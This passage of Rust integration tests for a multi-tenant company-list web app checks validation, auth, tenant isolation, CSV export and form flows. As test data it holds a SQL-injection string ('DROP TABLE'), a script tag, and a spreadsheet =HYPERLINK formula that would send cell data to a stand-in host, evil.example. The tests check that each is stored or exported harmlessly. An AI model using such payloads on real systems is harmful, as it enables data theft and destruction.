            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/rename",
            vec![("id", l.clone()), ("version", s("1")), ("name", s(""))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/rename",
            vec![
                ("id", l.clone()),
                ("version", s("1")),
                ("name", long.clone()),
            ],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/rename",
            vec![
                ("id", l.clone()),
                ("version", s("1")),
                ("name", s("Line\nbreak")),
            ],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/rename",
            vec![("id", s("abc")), ("version", s("1")), ("name", s("New"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/rename",
            vec![("id", l.clone()), ("version", s("one")), ("name", s("New"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/rename",
            vec![("id", l.clone()), ("version", s("0")), ("name", s("New"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/rename",
            vec![("id", s("999999")), ("version", s("1")), ("name", s("New"))],
            StatusCode::NOT_FOUND,
        ),
        (
            "/api/lists/delete",
            vec![("id", s("-1")), ("confirm", s("yes"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/delete",
            vec![("id", s("1.5")), ("confirm", s("yes"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/delete",
            vec![("id", l.clone()), ("confirm", s("yes\u{7}"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/delete",
            vec![("id", s("999999")), ("confirm", s("yes"))],
            StatusCode::NOT_FOUND,
        ),
        (
            "/api/lists/add",
            vec![("list_id", l.clone())],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/add",
            vec![("list_id", s("")), ("company", c.clone())],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/add",
            vec![("list_id", s("x")), ("company", c.clone())],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/add",
            vec![("list_id", l.clone()), ("company", s("acme"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/add",
            vec![
                ("list_id", l.clone()),
                ("companies[]", c.clone()),
                ("companies[]", s("0")),
            ],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        ("/api/lists/add", too_many, StatusCode::UNPROCESSABLE_ENTITY),
        (
            "/api/lists/add",
            vec![("list_id", l.clone()), ("company", s("999999"))],
            StatusCode::NOT_FOUND,
        ),
        (
            "/api/lists/add",
            vec![
                ("list_id", l.clone()),
                ("company", w.globex_company.to_string()),
            ],
            StatusCode::NOT_FOUND,
        ),
        (
            "/api/lists/remove",
            vec![("list_id", l.clone()), ("company_id", c.clone())],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/remove",
            vec![
                ("list_id", l.clone()),
                ("company_id", s("x")),
                ("confirm", s("yes")),
            ],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/remove",
            vec![
                ("list_id", l.clone()),
                ("company_id", w.globex_company.to_string()),
                ("confirm", s("yes")),
            ],
            StatusCode::NOT_FOUND,
        ),
        (
            "/api/lists/enrich",
            vec![("id", s("x"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/enrich",
            vec![("id", s("999999"))],
            StatusCode::NOT_FOUND,
        ),
    ];
    let before = snapshot(&pool).await;
    for (path, form, status) in &cases {
        let reply = w.call(&anna, path, form).await;
        let shown: Vec<_> = form.iter().take(4).collect();
        assert_eq!(reply.status, *status, "{path} {shown:?}: {}", reply.body);
        assert_eq!(
            snapshot(&pool).await,
            before,
            "{path} {shown:?} changed something"
        );
    }
    // Anonymous and forged sessions: 401, nothing written.
    for (path, form, _) in cases.iter().take(3) {
        let reply = w.call("casework_session=forged", path, form).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{path}");
    }
    // SQL- and HTML-looking names are just text.
    let odd = w
        .list(&anna, "Robert'); DROP TABLE company_lists;--<b>", false)
        .await;
    let name: String = sqlx::query_scalar("SELECT name FROM company_lists WHERE id = $1")
        .bind(odd)
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(name, "Robert'); DROP TABLE company_lists;--<b>");
}

#[sqlx::test]
async fn the_csv_export_follows_the_filter_and_is_safe_to_open(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let tricky: Vec<(&str, &str)> = vec![
        ("Comma, Inc", "Fintech"),
        ("Quote \"Q\" Ltd", "Fintech"),
        ("Line\nBreak GmbH", "Fintech"),
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "Fintech",
        ),
        ("+Plus", "Fintech"),
        ("-Minus", "Fintech"),
        ("@At", "Fintech"),
    ];
    for (i, (name, sector)) in tricky.iter().enumerate() {
        sqlx::query(
            "INSERT INTO companies (tenant_id, name, website_url, website, sector, location, score)
             VALUES ($1, $2, $3, $4, $5, 'Berlin, DE', $6)",
        )
        .bind(w.acme)
        .bind(name)
        .bind(format!("https://t{i}.example/"))
        .bind(format!("t{i}.example"))
        .bind(sector)
        .bind(90 - i as i16)
        .execute(&pool)
        .await
        .unwrap();
    }
    let anna = w.cookie("anna@acme.example").await;
    // The expectation is worked out here from the rows as stored, not through the
    // query the export shares with the companies page.
    let stored: Vec<(i64, String, String, String, Option<i16>)> = sqlx::query_as(
        "SELECT id, name, sector, location, score FROM companies WHERE tenant_id = $1",
    )
    .bind(w.acme)
    .fetch_all(&pool)
    .await
    .unwrap();
    let by_score = |a: &&(i64, String, String, String, Option<i16>),
                    b: &&(i64, String, String, String, Option<i16>)| {
        (b.4.unwrap_or(-1), b.0).cmp(&(a.4.unwrap_or(-1), a.0))
    };
    let mut fintech_by_name: Vec<_> = stored
        .iter()
        .filter(|c| c.2.to_lowercase() == "fintech")
        .collect();
    fintech_by_name.sort_by_key(|c| (c.1.to_lowercase(), c.0));
    let mut berlin_30: Vec<_> = stored
        .iter()
        .filter(|c| c.3.to_lowercase().contains("berlin") && c.4.unwrap_or(-1) >= 30)
        .collect();
    berlin_30.sort_by(by_score);
    let mut everything: Vec<_> = stored.iter().collect();
    everything.sort_by(by_score);
    assert!(fintech_by_name.len() > tricky.len() / 2 && berlin_30.len() < stored.len());

    for (query, want) in [
        ("sector=fintech&sort=name", fintech_by_name),
        ("location=berlin&min_score=30", berlin_30),
        ("", everything),
    ] {
        let path = format!("/companies.csv?{query}");
        let reply = common::get_with_cookie(w.state.clone(), &path, &anna).await;
        assert_eq!(reply.status, StatusCode::OK, "{query}: {}", reply.body);
        assert_eq!(reply.headers["content-type"], "text/csv; charset=utf-8");
        assert_eq!(
            reply.headers["content-disposition"],
            "attachment; filename=\"companies.csv\""
        );
        assert!(reply.headers.get("x-export-truncated").is_none());
        let mut reader = csv::Reader::from_reader(reply.body.as_bytes());
        let header: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_string)
            .collect();
        assert_eq!(&header[..4], ["id", "name", "website", "website_url"]);
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        // The rows the filter matches, in the order it asks for.
        let ids: Vec<i64> = records.iter().map(|r| r[0].parse().unwrap()).collect();
        let want_ids: Vec<i64> = want.iter().map(|c| c.0).collect();
        assert_eq!(ids, want_ids, "{query}");
        assert!(!ids.is_empty());
        for (record, (_, name, sector, _, score)) in records.iter().zip(&want) {
            if name.starts_with(['=', '+', '-', '@']) {
                assert_eq!(&record[1], format!("'{name}"));
            } else {
                assert_eq!(&record[1], name, "commas, quotes and newlines survive");
            }
            assert_eq!(&record[4], sector);
            assert_eq!(record[7].parse::<i16>().ok(), *score);
        }
    }
    // The raw text: quoted where it must be, the formula defused.
    let reply = common::get_with_cookie(
        w.state.clone(),
        "/companies.csv?sector=fintech&sort=name",
        &anna,
    )
    .await;
    assert!(reply.body.contains("\"Comma, Inc\""));
    assert!(reply.body.contains("\"Quote \"\"Q\"\" Ltd\""));
    assert!(reply.body.contains("\"Line\nBreak GmbH\""));
    assert!(
        reply
            .body
            .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")
    );
    assert!(!reply.body.contains(",=HYPERLINK"));
    assert!(!reply.body.contains("\"=HYPERLINK"));
    assert!(
        !reply.body.contains("Globex"),
        "another workspace's companies"
    );

    // Who may: not anonymous (401), not an employee (403); a bad filter is a 422.
    let reply = common::get(w.state.clone(), "/companies.csv").await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    let emil = w.cookie("emil@acme.example").await;
    let reply = common::get_with_cookie(w.state.clone(), "/companies.csv", &emil).await;
    assert_eq!(reply.status, StatusCode::FORBIDDEN);
    let reply =
        common::get_with_cookie(w.state.clone(), "/companies.csv?min_score=500", &anna).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
    let gina = w.cookie("gina@globex.example").await;
    let reply = common::get_with_cookie(w.state.clone(), "/companies.csv", &gina).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert_eq!(reply.body.lines().count(), 2, "{}", reply.body);
    assert!(reply.body.contains("Globex Co"));
}

#[sqlx::test]
async fn a_large_export_is_capped_and_says_so(pool: PgPool) {
    let w = world(&pool, &[]).await;
    sqlx::query(
        "INSERT INTO companies (tenant_id, name, website_url, website, score)
         SELECT $1, 'Bulk ' || i, 'https://b' || i || '.example/', 'b' || i || '.example', i % 100
         FROM generate_series(1, 10005) i",
    )
    .bind(w.acme)
    .execute(&pool)
    .await
    .unwrap();
    let anna = w.cookie("anna@acme.example").await;
    let reply = common::get_with_cookie(w.state.clone(), "/companies.csv?sort=added", &anna).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert!(
        reply.headers["x-export-truncated"]
            .to_str()
            .unwrap()
            .contains("10000")
    );
    let mut reader = csv::Reader::from_reader(reply.body.as_bytes());
    assert_eq!(reader.records().count(), 10_000);
    // Narrowed below the cap: complete, and not marked.
    let reply =
        common::get_with_cookie(w.state.clone(), "/companies.csv?min_score=50", &anna).await;
    assert!(reply.headers.get("x-export-truncated").is_none());
}

/// The redirect's target, then that page as the browser would load it.
async fn follow(w: &World, reply: &Reply, cookie: &str) -> Reply {
    assert_eq!(reply.status, StatusCode::FOUND, "{}", reply.body);
    let page = common::get_with_cookie(w.state.clone(), reply.location(), cookie).await;
    assert_eq!(page.status, StatusCode::OK, "{}", reply.location());
    page
}

#[sqlx::test]
async fn the_pages_and_their_forms_work_without_javascript(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let anna = w.cookie("anna@acme.example").await;
    let ada = w.cookie("ada@acme.example").await;
    let post = |path: &'static str, form: Vec<(&'static str, String)>, cookie: String| {
        let state = w.state.clone();
        async move {
            let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
            common::post_html_form(state, path, &form, &cookie).await
        }
    };
    let s = |v: &str| v.to_string();

    // Before any list: the companies page says how to make one, and has no picker.
    let page = common::get_with_cookie(w.state.clone(), "/companies", &anna).await;
    assert!(page.body.contains("to collect companies from this table"));
    assert!(!page.body.contains("data-testid=\"list-picker\""));

    // Create: to the new list's page, which says what to do next.
    let reply = post(
        "/api/lists/create",
        vec![("name", s("Shortlist"))],
        anna.clone(),
    )
    .await;
    let id: i64 = sqlx::query_scalar("SELECT id FROM company_lists WHERE name = 'Shortlist'")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(reply.location(), format!("/lists/{id}?created=1"));
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("data-testid=\"list-name\""));
    assert!(page.body.contains("Nothing on this list yet."));
    assert!(page.body.contains("List created."));
    // A duplicate: back to /lists with the reason and the name typed.
    let reply = post(
        "/api/lists/create",
        vec![("name", s("shortlist"))],
        anna.clone(),
    )
    .await;
    assert!(
        reply.location().starts_with("/lists?error="),
        "{}",
        reply.location()
    );
    let page = follow(&w, &reply, &anna).await;
    assert!(
        page.body
            .contains("There is already one called “Shortlist”"),
        "{}",
        page.body
    );
    assert!(page.body.contains("value=\"shortlist\""));
    // The overview: the list with its count, rename, and delete behind its confirm step.
    assert!(page.body.contains("data-testid=\"list-row\""));
    assert!(page.body.contains("action=\"/api/lists/delete\""));
    assert!(page.body.contains("name=\"confirm\" value=\"yes\""));
    assert!(page.body.contains("action=\"/api/lists/rename\""));
    assert!(
        !page.body.contains("data-testid=\"create-shared\""),
        "analysts cannot share"
    );
    let admin_page = common::get_with_cookie(w.state.clone(), "/lists", &ada).await;
    assert!(admin_page.body.contains("data-testid=\"create-shared\""));

    // The companies page: the picker, tick boxes, each row's Add, the CSV link with the
    // filters, "Save this search".
    let page = common::get_with_cookie(
        w.state.clone(),
        "/companies?sector=Fintech&sort=name",
        &anna,
    )
    .await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("data-testid=\"list-picker\""));
    assert!(
        page.body
            .contains(&format!("<option value=\"{id}\">Shortlist (0)</option>")),
        "{}",
        page.body
    );
    assert!(page.body.contains("name=\"companies[]\""));
    assert!(page.body.contains("name=\"company\""));
    assert!(
        page.body
            .contains("href=\"/companies.csv?sector=Fintech&amp;sort=name\"")
    );
    assert!(page.body.contains("action=\"/api/searches/save\""));
    assert!(
        page.body
            .contains("name=\"query\" value=\"sector=Fintech&amp;sort=name\"")
    );

    // Add the ticked rows: back to the same companies page, with the report.
    let [a, b] = [w.companies[1], w.companies[3]];
    let reply = post(
        "/api/lists/add",
        vec![
            ("list_id", id.to_string()),
            ("companies[]", a.to_string()),
            ("companies[]", b.to_string()),
            ("query", s("sort=name&sector=Fintech")),
        ],
        anna.clone(),
    )
    .await;
    assert_eq!(
        reply.location(),
        format!("/companies?sector=Fintech&sort=name&added=2.0.{id}")
    );
    let page = follow(&w, &reply, &anna).await;
    assert!(
        page.body.contains("Added 2 companies to “Shortlist”"),
        "{}",
        page.body
    );
    // One row's own button, for a company already on it.
    let reply = post(
        "/api/lists/add",
        vec![
            ("list_id", id.to_string()),
            ("company", a.to_string()),
            ("query", s("")),
        ],
        anna.clone(),
    )
    .await;
    assert_eq!(reply.location(), format!("/companies?added=0.1.{id}"));
    let page = follow(&w, &reply, &anna).await;
    assert!(
        page.body
            .contains("Already on “Shortlist”; nothing changed")
    );
    // No list chosen: the reason, nothing added.
    let reply = post(
        "/api/lists/add",
        vec![
            ("list_id", s("")),
            ("company", a.to_string()),
            ("query", s("q=<script>")),
        ],
        anna.clone(),
    )
    .await;
    assert!(
        reply
            .location()
            .starts_with("/companies?q=%3Cscript%3E&list_error="),
        "{}",
        reply.location()
    );
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("choose a list"));
    assert_eq!(items(&pool, id).await, vec![a, b]);

    // The list's page: its companies, each with a confirmed remove, and Enrich all.
    let page = common::get_with_cookie(w.state.clone(), &format!("/lists/{id}"), &anna).await;
    assert_eq!(page.body.matches("data-testid=\"company-row\"").count(), 2);
    assert!(page.body.contains("action=\"/api/lists/remove\""));
    assert!(page.body.contains("action=\"/api/lists/enrich\""));
    assert!(
        page.body
            .contains(&format!("href=\"/companies.csv?list={id}\""))
    );
    let reply = post(
        "/api/lists/remove",
        vec![
            ("list_id", id.to_string()),
            ("company_id", a.to_string()),
            ("confirm", s("yes")),
        ],
        anna.clone(),
    )
    .await;
    assert_eq!(reply.location(), format!("/lists/{id}?removed=1"));
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("Removed from the list."));
    assert_eq!(page.body.matches("data-testid=\"company-row\"").count(), 1);

    // Rename from the list's page, then delete: without the confirmation, refused.
    let reply = post(
        "/api/lists/rename",
        vec![
            ("id", id.to_string()),
            ("version", s("1")),
            ("name", s("Finalists")),
            ("back", s("list")),
        ],
        anna.clone(),
    )
    .await;
    assert_eq!(reply.location(), format!("/lists/{id}?renamed=1"));
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("Finalists"));
    let reply = post(
        "/api/lists/delete",
        vec![("id", id.to_string())],
        anna.clone(),
    )
    .await;
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("confirm first"), "{}", page.body);
    assert_eq!(items(&pool, id).await, vec![b]);
    let reply = post(
        "/api/lists/delete",
        vec![("id", id.to_string()), ("confirm", s("yes"))],
        anna.clone(),
    )
    .await;
    assert_eq!(reply.location(), "/lists?deleted=1");
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("List deleted."));

    // Save a search, see it in the menu, delete it.
    let reply = post(
        "/api/searches/save",
        vec![
            ("name", s("Fintech by name")),
            ("query", s("sort=name&sector=Fintech")),
        ],
        anna.clone(),
    )
    .await;
    assert!(
        reply
            .location()
            .starts_with("/companies?sector=Fintech&sort=name&saved="),
        "{}",
        reply.location()
    );
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("Search saved."));
    assert!(page.body.contains("Saved searches (1)"));
    assert!(page.body.contains("Fintech by name"));
    let search: i64 = sqlx::query_scalar("SELECT id FROM saved_searches")
        .fetch_one(&pool)
        .await
        .unwrap();
    let reply = post(
        "/api/searches/save",
        vec![("name", s("All")), ("query", s(""))],
        anna.clone(),
    )
    .await;
    let page = follow(&w, &reply, &anna).await;
    assert!(
        page.body.contains("choose at least one filter"),
        "{}",
        page.body
    );
    let reply = post(
        "/api/searches/delete",
        vec![("id", search.to_string())],
        anna.clone(),
    )
    .await;
    assert_eq!(reply.location(), "/companies?search_deleted=1");
    let page = follow(&w, &reply, &anna).await;
    assert!(page.body.contains("Saved searches (0)"));
}
